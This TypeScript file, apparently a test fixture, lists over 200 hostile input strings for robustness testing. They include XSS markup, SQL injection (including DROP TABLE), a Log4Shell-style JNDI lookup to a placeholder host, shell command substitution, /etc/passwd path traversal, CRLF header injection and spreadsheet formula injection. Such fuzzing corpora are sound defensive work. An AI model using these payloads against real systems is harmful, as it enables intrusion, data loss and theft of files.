import { EXECUTED_PROPERTY } from './hostile-texts.js';

/** A text that attacks a page, a response header or a database query. */
export interface Payload {
  readonly text: string;
  /**
   * Whether every text field must accept the payload: all its characters are visible, and it is short enough for a
   * title.
   */
  readonly isPlain: boolean;
}

const plainPayloads = (texts: readonly string[]): Payload[] => texts.map((text) => ({ text, isPlain: true }));
const unusualPayloads = (texts: readonly string[]): Payload[] =>
  texts.map((text) => ({ text, isPlain: false }));

/** Patterns that `String.replace` expands in its replacement text, alone and within other text. */
const REPLACEMENT_PATTERNS = [
  "$'",
  '$&',
  '$`',
  '$$',
  '$1',
  '$0',
  '$<x>',
  '$99',
  "$'$`",
  '$$$$',
  '$&$&',
].flatMap((pattern) => [pattern, `I bill in US${pattern}s and A${pattern}s`, `${pattern}</script>`]);

const MARKUP_INJECTIONS = [
  `<script>window.${EXECUTED_PROPERTY}=1</script>`,
  `</script><script>window.${EXECUTED_PROPERTY}=2</script>`,
  `"><img src=x onerror=window.${EXECUTED_PROPERTY}=3>`,
  `'><svg onload=window.${EXECUTED_PROPERTY}=4>`,
  '<!--</title></textarea></style><b class="hostile">',
  '<![CDATA[<b class="hostile">]]>',
  '&lt;b&gt; &amp;amp; &#x3c;i&#x3e;',
  '<b class="hostile">bold</b>',
  '</div></main></body></html>',
  '<style>*{display:none}</style>',
  `<iframe srcdoc="<script>parent.${EXECUTED_PROPERTY}=5</script>">`,
  '<base href="https://people.example/">',
  '<meta http-equiv="refresh" content="0;url=https://people.example">',
  '<plaintext>',
  '<template><b class="hostile"></b></template>',
  '<noscript><p title="</noscript><b class=hostile>">',
  '</script',
  '<!--<script>',
  '-->',
  ']]>',
  '<\u0142b>',
  '＜script＞',
  '" autofocus onfocus="x',
  "' style='position:fixed",
  '`onclick=x`',
  'aria-busy="true"',
];

const JSON_BREAKERS = [
  '"',
  '\\',
  '\\"',
  '\\u0022',
  '\\u0000',
  '\\ud800',
  '"}],"queries":[',
  '{"__proto__":{"x":1}}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '{}',
  '[]',
  'true',
  '0',
  '-1',
  '1e400',
  '//',
  '/* */',
  "\\'",
  '\\x3c',
];

const TEMPLATE_INJECTIONS = [
  '{{constructor.constructor("x")()}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{{7*7}}',
  '{%raw%}',
  '[[x]]',
  '@{x}',
  '*{x}',
  '%s %d %n',
  '{0} {name}',
  '$(id)',
  '`id`',
  '${jndi:ldap://people.example/a}',
  '~{x}',
  '<#assign x=1>',
];

const SQL_INJECTIONS = [
  "'; DROP TABLE users; --",
  "' OR '1'='1",
  "O'Brien",
  "''",
  '";--',
  '%',
  '_',
  '%%%',
  '\\%',
  '$1::text',
  ':name',
  '?',
  '1;SELECT pg_sleep(1)',
  "E'\\n'",
  '$$body$$',
  '/**/',
];

const URLS_AND_PATHS = [
  `javascript:window.${EXECUTED_PROPERTY}=8`,
  'data:text/html,x',
  'vbscript:x',
  'https://people.example/?a=b&c=d#e',
  '//people.example',
  '../../etc/passwd',
  '%2e%2e%2f',
  '%00',
  '%0d%0aX-Hostile: 1',
  'file:///etc/passwd',
  'mailto:a@people.example?bcc=b',
  'http://a:b@people.example',
];

const SPREADSHEET_FORMULAS = [
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  'x;=1+1',
  "'=1",
  '=cmd|x!A1',
];

const WRITING_SYSTEMS_AND_EMOJI = [
  '👩🏽\u200d💻',
  '👨\u200d👩\u200d👧\u200d👦 family',
  '❤\ufe0f\u200d🔥',
  '🏳\ufe0f\u200d🌈',
  '1\ufe0f\u20e3',
  '🇸🇪 flag',
  '𝕳𝖊𝖑𝖑𝖔',
  '💥'.repeat(40),
  'e\u0301 and é',
  `Z${'\u0335\u0321\u0328'.repeat(8)}algo`,
  'ﷺ',
  'עברית ו-English 123',
  'العربية مع English',
  'نیم\u200cفاصله',
  'ไทย',
  '中文字元',
  '日本語テキスト',
  '한국어',
  'हिन्दी क्\u200dष',
  'ß ẞ İ ı ſ',
  'ﬁ ﬂ',
  '\u00bd \u2160 \u2460',
  'a\u00a0b',
  'W'.repeat(60),
  'i'.repeat(100),
  '...',
  '…',
  'Ω≈ç√∫',
  '\ufffd',
];

const INVISIBLE_CHARACTERS = [
  '\u202Egnirts desrever',
  '\u2067isolated\u2069',
  '\u202aembedded\u202c',
  'pop\u202cpop',
  'unclosed \u2066',
  '\u200b',
  'zero\u200bwidth',
  '\u3164',
  'fill\u3164er',
  '\ufeffmark',
  'soft\u00adhyphen',
  'Lat\u200din',
  '\u2800\u2800',
  '\u180e',
  'tag\u{e0041}ged',
  'ann\ufff9ota\ufffated\ufffb',
  'line\u2028separator\u2029paragraph',
  'mark\u200e',
  '\u034f',
  '\u0301',
  '\ue000',
];

const CONTROL_CHARACTERS = [
  'two\r\nlines',
  'two\nlines',
  'return\ronly',
  'tab\tbed',
  'nul\u0000byte',
  '\u0000',
  'half\ud800',
  '\udfffother half',
  '\udfff\ud800',
  'escape\u001b[31m',
  'bell\u0007',
  'back\u0008space',
  'form\ffeed',
  'next\u0085line',
  'delete\u007f',
  'X-Hostile: 1\r\nBcc: everybody@people.example\r\n\r\n<h1 class="hostile">',
];

const LONG_TEXTS = [
  'long '.repeat(400).trim(),
  'x'.repeat(1_000),
  'x'.repeat(20_000),
  '👍'.repeat(60),
  `${'y'.repeat(99)}👍`,
  `${'y'.repeat(119)}👍`,
];

/** All payloads, of all kinds: more than 200. */
export const PAYLOADS: readonly Payload[] = [
  ...plainPayloads(REPLACEMENT_PATTERNS),
  ...plainPayloads(MARKUP_INJECTIONS),
  ...plainPayloads(JSON_BREAKERS),
  ...plainPayloads(TEMPLATE_INJECTIONS),
  ...plainPayloads(SQL_INJECTIONS),
  ...plainPayloads(URLS_AND_PATHS),
  ...plainPayloads(SPREADSHEET_FORMULAS),
  ...plainPayloads(WRITING_SYSTEMS_AND_EMOJI),
  ...unusualPayloads(INVISIBLE_CHARACTERS),
  ...unusualPayloads(CONTROL_CHARACTERS),
  ...unusualPayloads(LONG_TEXTS),
];
